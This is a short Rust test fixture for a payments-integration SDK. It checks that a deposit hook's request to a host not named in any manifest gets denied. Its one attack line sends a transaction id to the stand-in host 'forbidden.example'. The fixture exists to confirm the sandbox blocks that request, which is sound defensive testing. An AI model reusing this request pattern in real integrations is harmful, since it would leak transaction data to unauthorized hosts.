//! Attack: `after-deposit` sends the transaction's id to a host that no manifest names. It returns ok only if it was
//! denied, and logs the denial's text, so that a test can read what the host says.

use windlass_sdk::http::{Error as HttpError, Request};
use windlass_sdk::{DepositEvents, Error, Transaction, log, register_integrations};

struct ForbiddenHost;

impl DepositEvents for ForbiddenHost {
    fn after_deposit(transaction: Transaction) -> Result<(), Error> {
        let url = format!("https://forbidden.example/take?id={}", transaction.id);
        match Request::get(&url).send() {
            Err(HttpError::Denied(line)) => {
                log::info(&format!("denied: {line}"));
                Ok(())
            }
            other => Err(Error::UnexpectedResponse(format!("not denied: {other:?}"))),
        }
    }
}

register_integrations!(deposit_events = ForbiddenHost);
